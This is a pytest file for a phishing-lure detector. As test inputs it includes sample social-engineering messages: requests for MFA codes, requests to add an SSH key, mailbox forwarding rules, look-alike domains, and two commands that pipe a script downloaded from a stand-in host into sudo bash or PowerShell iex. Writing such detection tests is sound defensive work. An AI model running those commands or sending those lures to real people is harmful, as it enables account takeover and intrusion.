"""The cyber lures (rules/cyber.yaml): whole approaches, and look-alike domains of the recipient's
organisation and of named brands, with the legitimate look-alikes that must stay low."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from lurewatch.indicators.lookalike import hosts_in, imitates, split_host
from lurewatch.model import Approach, Message, Profile
from lurewatch.pipeline import Analyser

ANALYSER = Analyser()
WORDS = frozenset(["login", "secure", "security", "share", "careers", "portal"])


def approach(messages: list, *, sender_email: str | None = None, reply_to: str | None = None,
             owner_headline: str = "Grid Control Systems Manager at Westmarch Energy Networks",
             owner_email: str | None = None, days_apart: int = 1, source: str = "email") -> Approach:
    t0 = datetime(2025, 3, 3, 9, tzinfo=UTC)
    msgs = []
    for i, m in enumerate(messages):
        when = t0 + timedelta(days=i * days_apart)
        if isinstance(m, dict):
            msgs.append(Message("Owner", m["owner"], when, inbound=False))
        else:
            msgs.append(Message("Sender", m, when))
    profile = Profile(name="Sender", email=sender_email)
    if reply_to:
        profile.urls.append("mailto:" + reply_to)
    return Approach(source=source, sender_name="Sender", messages=msgs, profile=profile,  # type: ignore[arg-type]
                    owner=Profile(name="Owner", headline=owner_headline, email=owner_email))


def scored(*args, **kw) -> Approach:
    return ANALYSER.analyse_one(approach(*args, **kw))


def ids(a: Approach) -> set[str]:
    return {f.indicator for f in a.findings}


# -- whole approaches ------------------------------------------------------------------------------------

def test_event_invitation_leading_to_password_and_2_step_code_is_flagged():
    a = scored([
        "Dear Ms Hale, on behalf of the programme committee I would like to invite you to speak on a closed "
        "roundtable on grid resilience in Vienna this June. Travel is covered by the organisers.",
        {"owner": "Thank you, I would be glad to take part, subject to my employer's approval."},
        "Wonderful, thank you! Delegates confirm their seat on our delegate portal: "
        "https://delegates.gridresilience-forum.example/confirm. It asks you to sign in with your work "
        "Microsoft account, so please enter your work email and password, then the 2-step code sent to your "
        "phone. Seats are allocated in order of confirmation.",
    ], sender_email="secretariat@gridresilience-forum.example")
    assert a.level in ("medium", "high"), (a.score, [(f.indicator, f.weight) for f in a.findings])
    assert {"LW-CYBER-002", "LW-CYBER-008"} <= ids(a)


def test_a_request_to_read_back_the_code_is_flagged_on_its_own():
    a = scored(["Great to meet you at the summit. I have added you to the speakers' group; you will receive "
                "a 6-digit code by text, could you send it to me so I can confirm you?"],
               source="linkedin-message")
    assert "LW-CYBER-001" in ids(a) and a.level in ("medium", "high")


def test_a_code_asked_back_by_reply_to_the_email_is_flagged_on_its_own():
    # the relay written as a fallback for a sign-in page that "may be blocked" (blind set 19, u-h20)
    a = scored(["Your organisation has been approved for our founders' programme. Please sign in with your work "
                "account on our activation page. If your admin policy blocks the page, just reply to this "
                "e-mail with the 6-digit code your authenticator app shows and we will finish the link by hand."],
               sender_email="programme@cloudgrant.example")
    assert "LW-CYBER-001" in ids(a) and a.level in ("medium", "high"), (a.score, ids(a))
    b = scored(["Please do not reply to this e-mail: the 6-digit code your authenticator app shows is for "
                "the sign-in page only."], sender_email="it-helpdesk@cloudgrant.example")
    assert "LW-CYBER-001" not in ids(b)


def test_a_credential_ask_after_a_harmless_invitation_escalates_the_thread():
    a = scored(["Would you like to join our speakers' panel on grid storage in May?",
                "Great! Please send me the 6-digit code you receive by SMS to confirm your speaker slot."],
               source="linkedin-message")
    assert {"LW-CYBER-001", "LW-CYBER-008", "LW-THREAD-001"} <= ids(a)
    # The calibrated score keeps these new signs at their own noisy-OR (59 here: medium, one point short of
    # high); the thread must at least be flagged and score well above its harmless first message.
    first = scored(["Would you like to join our speakers' panel on grid storage in May?"], source="linkedin-message")
    assert a.level in ("medium", "high") and a.score >= first.score + 30, (a.score, first.score)


def test_a_push_prompt_to_approve_after_a_sign_in_link_is_flagged():
    # MFA prompt approval (ATT&CK T1621): the sender has the password and needs the recipient's tap
    a = scored([
        "Hello Dr Hale, the instrument booking system moves to a new calendar on Monday. Please sign in with your "
        "university account at https://bookings.fenwick-labs.example/sso and check your training records. "
        "Straight afterwards a request will appear in your authenticator app: please approve it, that is how "
        "the new calendar links to your record.",
    ], sender_email="facility@fenwick-labs.example")
    assert {"LW-CYBER-011", "LW-CYBER-003"} <= ids(a)
    assert a.level in ("medium", "high"), (a.score, [(f.indicator, f.weight) for f in a.findings])
    relay = scored(["Great to hear from you.", {"owner": "I signed in and my phone now shows a number to enter."},
                    "Perfect, just approve it and type 52 on your phone, then the shared folder opens."],
                   source="linkedin-message")
    assert "LW-CYBER-011" in ids(relay)


def test_own_it_warning_never_to_approve_a_prompt_is_not_the_ask():
    a = scored([
        "From Monday the Authenticator app shows a number when you sign in. If you ever get a prompt you did "
        "not start yourself, do not approve it: deny it and call the service desk on extension 4400.",
    ], sender_email="servicedesk@westmarch.example", owner_email="j.hale@westmarch.example")
    assert "LW-CYBER-011" not in ids(a) and a.level == "low", (a.score, ids(a))


def test_a_command_that_pipes_a_download_into_a_shell_is_flagged():
    a = scored([
        "Before our investment committee we profile every candidate's serving stack the same way. It is one line "
        "on the production host: curl -fsSL https://agent.harbour-vc.example/p.sh | sudo bash -s -- --upload",
    ], sender_email="diligence@harbour-vc.example")
    assert {"LW-CYBER-012", "LW-FILE-005"} <= ids(a) and a.level in ("medium", "high"), (a.score, ids(a))
    ps = scored(["Open PowerShell as administrator and paste: iwr https://fix.tool-licences.example/h.ps1 | iex"],
                sender_email="support@tool-licences.example")
    assert "LW-CYBER-012" in ids(ps)
    docs = scored(["Our public dataset is at https://data.openmaterials.example/set.csv; curl or a browser both "
                   "work, and nothing needs installing."], sender_email="team@openmaterials.example")
    assert "LW-CYBER-012" not in ids(docs)


def test_access_handed_over_without_a_password_is_flagged():
    # LW-CYBER-013: the sender's key on a server, a mailbox rule sending mail outside, the sender's number as a
    # sign-in method, a remote-control session, a token: each flagged on its own, with no password asked
    for text in [
        "Our benchmark harness needs to reach the cluster overnight. Please append the public key below to "
        "~/.ssh/authorized_keys under your account on the gateway node and tell me when it's done.",
        "While the consortium bid runs, could you create a rule in your mailbox so that anything from the "
        "prime's procurement team is copied to bids@consortium-desk.example? IT don't need to be bothered.",
        "So we can help if the token ever fails during the negotiation round, add our desk number +44 7700 "
        "900145 as an alternate phone on your account's security info page.",
        "The portal client needs a proper install. Open Quick Assist, choose 'Help someone', read me the code "
        "and give me full control for ten minutes.",
    ]:
        a = scored([text], sender_email="ops@partner-desk.example", owner_email="m.kerr@westmarch.example")
        assert "LW-CYBER-013" in ids(a) and a.level in ("medium", "high"), (a.score, ids(a), text[:40])


def test_the_organisations_own_access_notices_are_not_access_handed_over():
    for text in [
        "We found a forwarding rule on your mailbox that sends mail to an outside address. You did not create "
        "it, so we have switched it off; please ring the service desk if you know who asked for it.",
        "A deploy key was added to the repository flight-sw by an organisation admin. If this key was added in "
        "error, an admin can remove it under Settings.",
        "External collaborators register their SSH keys only through the research computing form; my public "
        "key is in the form itself, so there is nothing for you to add anywhere.",
    ]:
        a = scored([text], sender_email="servicedesk@westmarch.example", owner_email="m.kerr@westmarch.example")
        assert "LW-CYBER-013" not in ids(a), (a.score, ids(a), text[:40])


def test_consent_and_browser_add_ons_from_an_outside_link_are_flagged_and_store_rollouts_are_not():
    consent = scored([
        "To keep the proposal in one place, connect our drafting workspace: https://app.draftdesk.example/connect. "
        "Microsoft will show a screen asking to let it read and send mail as you and read all files you can "
        "access; just press Accept."], sender_email="coordinator@draftdesk.example")
    assert "LW-CYBER-004" in ids(consent)
    addon = scored(["The reviewers' comments are in our annotation add-on: install it from "
                    "https://addons.reviewdesk.example/chrome, then open your paper with it."],
                   source="linkedin-message")
    assert "LW-CYBER-004" in ids(addon)
    rollout = scored(["As agreed at the all-hands, we are rolling out the team password manager. Install the "
                      "VaultKey extension from the Chrome Web Store or Firefox Add-ons and sign in with your "
                      "work account."], sender_email="it@westmarch.example", owner_email="j.hale@westmarch.example")
    assert "LW-CYBER-004" not in ids(rollout) and rollout.level == "low", (rollout.score, ids(rollout))
    chat = scored(["Lovely to meet you at the fair. Add me on WhatsApp for a faster reply, and please add your "
                   "comments on section 4 by Thursday."], source="linkedin-message")
    assert "LW-CYBER-004" not in ids(chat)


def test_coaching_past_a_windows_permission_prompt_is_flagged():
    a = scored(["Sorry, the pack is a disk image so the videos stay together. Just double-click the PDF in it; "
                "if Windows asks for permission, that is the video player, just click allow."],
               source="linkedin-message")
    assert "LW-FILE-004" in ids(a)
    b = scored(["If SmartScreen says it protected your PC, click More info and then Run anyway."],
               source="linkedin-message")
    assert "LW-FILE-004" in ids(b)
    c = scored(["If the laptop asks for administrator rights, choose Run anyway."], source="linkedin-message")
    assert "LW-FILE-004" in ids(c)
    # a plan that "will run anyway" is not a button to press (LW-FILE-004 is never lowered by legitimacy)
    d = scored(["If it rains, the site visit will run anyway; bring boots."], source="linkedin-message")
    assert "LW-FILE-004" not in ids(d)


def test_weights_follow_the_strength_of_each_sign():
    e = ANALYSER.engine.by_id
    assert e["LW-CYBER-001"].weight >= 40 and e["LW-CYBER-006"].weight >= 40  # strong: medium on their own
    assert e["LW-CYBER-007"].weight >= 30 and e["LW-FILE-004"].weight >= 30
    assert e["LW-CYBER-003"].weight < 20 and e["LW-CYBER-009"].weight < 20  # weak: low on their own
    assert all(e[i].category in {"request", "files", "pivot", "escalation"} for i in e if i.startswith("LW-CYBER"))


def test_it_notice_from_own_domain_to_re_enrol_mfa_stays_low():
    a = scored([
        "Subject: Action needed: re-enrol your multi-factor authentication\n\n"
        "Hello, as announced on the intranet we are moving everyone to number matching. Before 14 March please "
        "go to the company portal at https://portal.westmarch.example/mfa, sign in with your work account "
        "and re-enrol the Authenticator app; you will need to enter your work password and the code from "
        "your authenticator once. IT will never ask you to send us your password or a code by e-mail or "
        "phone. Questions: the service desk on extension 4400.\n\nIT Service Desk, Westmarch Energy Networks",
    ], sender_email="servicedesk@westmarch.example", owner_email="j.hale@westmarch.example")
    assert "LW-LEGIT-005" in ids(a)
    assert "LW-CYBER-002" in ids(a)  # the same words as a phish; the own domain keeps it low
    assert a.level == "low", (a.score, [(f.indicator, f.weight) for f in a.findings])


def test_event_platform_registration_stays_low():
    a = scored([
        "Thank you for your interest in the Grid Edge Forum 2025 (15-16 May, Manchester). Registration is open "
        "on Eventbrite: https://www.eventbrite.co.uk/e/grid-edge-forum-2025-tickets-1234. Enter the "
        "verification code we email you to confirm your registration. The full programme is on "
        "https://gridedgeforum.example/programme.",
    ], sender_email="events@gridedgeforum.example")
    assert not ids(a) & {"LW-CYBER-001", "LW-CYBER-002", "LW-CYBER-006", "LW-CYBER-007", "LW-CYBER-008"}
    assert a.level == "low", (a.score, [(f.indicator, f.weight) for f in a.findings])


def test_coding_test_on_a_public_platform_stays_low_and_a_hurried_local_one_does_not():
    legit = scored([
        "Thanks for your time on the phone. The next stage is a 90-minute coding assessment on HackerRank "
        "(https://www.hackerrank.com/test/abc123), done in your browser; nothing to install. You have a week.",
    ], sender_email="talent@fernhill-payments.example")
    assert legit.level == "low", (legit.score, [(f.indicator, f.weight) for f in legit.findings])
    hurried = scored([
        "Thanks for your time on the phone. Before our call in an hour, please git clone "
        "https://code.fernhill-hiring.example/test and run npm install and npm start on your work laptop, "
        "so we can review it together. Within the hour please.",
    ], sender_email="talent@fernhill-hiring.example")
    assert {"LW-FILE-005", "LW-CYBER-005"} <= ids(hurried)
    assert hurried.level in ("medium", "high")


def test_shared_document_from_a_colleagues_organisation_stays_low():
    a = scored([
        "Hi Jo, as agreed at Tuesday's working group, I have shared the draft interconnector study with you "
        "on SharePoint: https://northgrid.sharepoint.com/sites/wg/draft.docx. You may need to sign in with "
        "your work account to open it. Comments by the 20th would be great.",
    ], sender_email="sam.ortiz@northgrid.example")
    assert "LW-CYBER-006" not in ids(a) and "LW-CYBER-007" not in ids(a)
    assert a.level == "low", (a.score, [(f.indicator, f.weight) for f in a.findings])


def test_survey_link_after_months_of_rapport_is_a_weak_sign():
    chat = ["Lovely to connect after your talk in Leeds!", "Ha, yes, the coffee was terrible.",
            "Hope the move went well.", "Happy new year to you and the team!", "How was the ski trip?",
            "We are running a short survey of grid engineers for a sector paper, would you fill it in? "
            "https://grid-sector-survey.example/s/7"]
    a = scored(chat, days_apart=12, source="linkedin-message")
    hit = next(f for f in a.findings if f.indicator == "LW-CYBER-009")
    assert hit.weight < 20 and "survey" in hit.evidence
    quick = scored(chat, days_apart=1, source="linkedin-message")  # a few days of chat is not a rapport
    assert "LW-CYBER-009" not in ids(quick)


# -- look-alike domains --------------------------------------------------------------------------------

@pytest.mark.parametrize(("sender", "text", "owner_email"), [
    ("it-support@westmarch-security.example", "Please confirm your details.", None),  # added word, headline org
    ("hr@westrnarch.example", "Your payslip is ready.", None),  # rn for m
    ("jo@recruit.example", "Vetting form: https://westmarch-portal.co.uk/vetting", "j.hale@westmarch.co.uk"),
    ("jo@recruit.example", "Form: https://westmarch.co.uk.forms-check.example/v", "j.hale@westmarch.co.uk"),
    ("jo@recruit.example", "Form: https://wеstmarch.co.uk/v", "j.hale@westmarch.co.uk"),  # Cyrillic е
])
def test_lookalike_of_the_recipients_own_organisation(sender, text, owner_email):
    a = scored([text], sender_email=sender, owner_email=owner_email)
    hit = [f for f in a.findings if f.indicator == "LW-CYBER-006"]
    assert hit, [(f.indicator, f.evidence) for f in a.findings]
    assert "recipient" in hit[0].evidence and a.level in ("medium", "high")


@pytest.mark.parametrize(("sender", "text", "owner_email"), [
    ("servicedesk@westmarch.example", "Your laptop is due for replacement.", None),  # the own domain
    ("events@westmarch-energy-networks.example", "Hello", None),  # the name's own words, hyphenated
    ("jo@partner.example", "Our tenant: https://westmarch.okta.com and https://westmarch.com", "j.hale@westmarch.co.uk"),
    ("jo@westfield-careers.example", "A role you may like.", None),  # a different name
])
def test_own_organisation_negatives(sender, text, owner_email):
    a = scored([text], sender_email=sender, owner_email=owner_email)
    assert "LW-CYBER-006" not in ids(a), [f.evidence for f in a.findings if f.indicator == "LW-CYBER-006"]


@pytest.mark.parametrize("text", [
    "Your Microsoft 365 password expires today. Keep it at https://micros0ft-login.example/keep",
    "Review the contract in DocuSign: https://docusign-secure.example/envelope/1",
    "Join the panel on Zoom: https://zoom-meeting.example/j/123",
    "Our Outlook calendar invite: http://оutlook.com.session-check.example/",  # Cyrillic о, in a sub-domain
    "The job pack is on Dropbox: https://www.dropb0x.example/s/jd",
])
def test_lookalike_of_a_named_brand(text):
    a = scored([text], sender_email="events@summit-team.example")
    assert "LW-CYBER-007" in ids(a), [(f.indicator, f.evidence) for f in a.findings]


@pytest.mark.parametrize("text", [
    "Join with Microsoft Teams: https://teams.microsoft.com/l/meetup-join/19 or sign in at https://login.microsoftonline.com",
    "Review the contract in DocuSign: https://na3.docusign.net/Signing/?ti=1",
    "A link with no brand named: https://micros0ft-login.example/keep",  # (b) needs the brand in the message
    "Register on Eventbrite: https://www.eventbrite.co.uk/e/1 ; slides on Google Drive https://drive.google.com/x",
    "The Microsoft paper is on our site https://gridsummit.example/microsoft-paper.pdf",
])
def test_named_brand_negatives(text):
    a = scored([text], sender_email="events@summit-team.example")
    assert "LW-CYBER-007" not in ids(a), [f.evidence for f in a.findings if f.indicator == "LW-CYBER-007"]


def test_lookalike_helpers_split_and_compare_offline():
    assert split_host("mail.westmarch.co.uk").registered == "westmarch.co.uk"
    assert split_host("e.g") is None and split_host("node.js") is None
    assert hosts_in("see https://user@evil.example/x, mail jo@corp.example; Node.js and e.g. notes") == \
        ["evil.example", "corp.example"]
    assert imitates("micros0ft-login", "microsoft", WORDS)
    assert imitates("microsoft", "microsoft", WORDS) is None
    assert imitates("westmarch-energy", "westmarchenergy", WORDS) is None


@pytest.mark.timeout(30)
def test_hostile_hosts_are_bounded():
    """Many, long or crafted host names: at most a fixed number per message, each bounded in length."""
    n = 200_000
    many = " ".join(f"https://micros0ft-login{i}.example/x" for i in range(n // 40))
    assert len(hosts_in(many)) == 20
    assert hosts_in("https://" + "a" * n + ".example") == []
    assert hosts_in("a." * (n // 2) + "example") == []
    a = scored(["Microsoft Outlook DocuSign Zoom " * 50 + many], sender_email="x@" + "a" * 300 + ".example")
    assert 0 <= a.score <= 100


def test_the_lookalike_check_leaves_the_process_socket_timeout_alone():
    """dnstwist sets a 12 s default socket timeout on import; it broke Spark's gateway in the same process."""
    import socket
    import sys

    from lurewatch.indicators import lookalike

    sys.modules.pop("dnstwist", None)
    before = socket.getdefaulttimeout()
    lookalike._dnstwist()
    assert socket.getdefaulttimeout() == before


def test_the_no_host_shortcut_gives_the_full_paths_hosts():
    """`_hosts` skips the quote-stripped texts when no raw text holds a host; it must answer exactly as the
    full path does, quotes, subjects, invitation notes and reply-to addresses included."""
    from pathlib import Path

    from lurewatch.indicators.cyber import _all_hosts, _hosts
    from lurewatch.learned.labelled import BLIND_SETS, load_yaml_set

    data = Path(__file__).parent / "data"
    cases = [r.approach for name in BLIND_SETS for r in load_yaml_set(data / name / "approaches.yaml", name)]
    cases += [
        approach(["Plain words, no link at all."], source="linkedin-message"),
        approach(["see evil\nOn Mon, Owner wrote:\n> quoted\n.com again"]),
        approach(["Reply above.\nFrom: Owner\nSent: Monday\nVisit westmarch-energy-login.example"]),
        approach(["Nothing here"], reply_to="someone@else.example"),
    ]
    with_hosts = 0
    for a in cases:
        assert _hosts(a) == _all_hosts(a)
        with_hosts += bool(_all_hosts(a))
    assert 50 < with_hosts < len(cases) - 100  # both paths were exercised
